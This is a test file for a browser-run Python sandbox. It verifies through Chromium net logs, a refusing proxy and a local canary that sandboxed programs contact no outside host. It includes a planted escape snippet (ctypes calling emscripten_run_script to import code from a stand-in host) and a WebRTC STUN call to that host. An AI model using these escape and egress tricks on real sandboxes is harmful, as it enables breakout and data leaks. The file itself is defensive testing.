import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page } from 'playwright'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { launchBrowser } from '../../tools/lib/browser.ts'
import { openCanary, type Canary } from '../../tools/lib/canary.ts'
import { attackArgs } from '../../tools/lib/chromium.mjs'
import { openDenyAllProxy } from '../../tools/lib/denyAllProxy.ts'
import { contacts, type NetLog } from '../../tools/lib/netlog.ts'
import { servePage } from '../../tools/lib/servePage.ts'
import { attacks, oddTexts, spoilers } from './programs.ts'

/**
 * The browser's own record of its network, and a proxy that refuses: what reaches anything but the page's own server is
 * seen, whoever it goes to and by whichever protocol.
 */
let canary: Canary
beforeAll(async () => void (canary = await openCanary()))
afterAll(() => canary.close())

interface Seen {
  /** Contacts of the browser with anything but the page's own server. */
  readonly foreign: readonly string[]
  /** What was wanted of the proxy. */
  readonly asked: readonly string[]
  /** Contacts with the page's own server. */
  readonly own: number
}

async function watch(page: string, use: (open: () => Promise<Page>) => Promise<void>): Promise<Seen> {
  const folder = await mkdtemp(join(tmpdir(), 'mumath-network-'))
  const served = await servePage(page)
  const proxy = await openDenyAllProxy()
  const { host, origin } = new URL(served.url)
  const file = join(folder, 'log.json')
  const browser = await launchBrowser([
    ...attackArgs,
    `--log-net-log=${file}`,
    '--net-log-capture-mode=Everything',
    `--proxy-server=http://127.0.0.1:${proxy.port}`,
    `--proxy-bypass-list=<-loopback>;${host}`,
    // What the browser would ask its makers at every start, it asks the page's server.
    `--gaia-url=${origin}`,
    `--component-updater=disable-background-downloads,url-source=${origin}/none`,
  ])
  await use(async () => {
    const tab = await browser.newPage()
    await tab.goto(served.url)
    return tab
  })
  await browser.close()
  const log: NetLog = JSON.parse(await readFile(file, 'utf8'))
  const asked = proxy.asked()
  await Promise.all([served.close(), proxy.close(), rm(folder, { recursive: true })])
  const all = contacts(log)
  const isOwn = ({ to }: { to: string }) => to === host
  return {
    foreign: all.filter((contact) => !isOwn(contact)).map(({ way, to }) => `${way} ${to}`),
    asked,
    own: all.filter(isOwn).length,
  }
}

async function run(tab: Page, programs: readonly string[], timeoutMs: number): Promise<void> {
  for (const program of programs) {
    const text = program
      .replaceAll('CANARY', `http://127.0.0.1:${canary.port}/`)
      .replaceAll('PORT', String(canary.port))
    const { type } = await tab.evaluate(
      ([text, timeoutMs]) => window.runProgram(text, timeoutMs, 'attacked'),
      [text, timeoutMs] as const,
    )
    expect(type).toBe('ran')
  }
}

test('all programs: the browser was in contact with nobody but the page’s own server', async () => {
  const before = canary.counts()
  const programs = [...attacks, ...oddTexts, ...spoilers].map(({ code }) => code)
  const half = Math.ceil(programs.length / 2)
  const seen = await watch('python.html', async (open) => {
    const halves = [programs.slice(0, half), programs.slice(half)]
    await Promise.all(halves.map(async (programs) => run(await open(), programs, 300)))
  })
  expect(seen.foreign).toEqual([])
  expect(seen.asked).toEqual([])
  expect(seen.own).toBeGreaterThan(0)
  expect(canary.counts()).toEqual(before)
}, 600_000)

/** Holes, planted: what is silent above is heard here. */
test('without the cage, a program that gets out is in the record, and the proxy was asked', async () => {
  const imports = (address: string) => `import ctypes, time
ctypes.CDLL(None).emscripten_run_script(b"import('${address}')")
time.sleep(0.5)`
  const programs = [imports('CANARYhole'), imports('http://secret.canary.test/hole')]
  const seen = await watch('hole.html', async (open) => run(await open(), programs, 3000))
  expect(seen.foreign).toContain(`request 127.0.0.1:${canary.port}`)
  expect(seen.foreign).toContain('request secret.canary.test:80')
  expect(seen.asked).toEqual([
    `GET http://127.0.0.1:${canary.port}/hole`,
    'GET http://secret.canary.test/hole',
  ])
})

test('a datagram is in the record, and no proxy stops it', async () => {
  const before = canary.counts()
  const seen = await watch('python.html', async (open) => {
    const tab = await open()
    await tab.evaluate(async (urls) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls }] })
      peer.createDataChannel('x')
      await peer.setLocalDescription()
    }, `stun:secret.canary.test:${canary.port}`)
    await expect.poll(() => canary.counts().datagrams).toBeGreaterThan(before.datagrams)
  })
  expect(seen.foreign).toContain(`datagram 127.0.0.1:${canary.port}`)
})
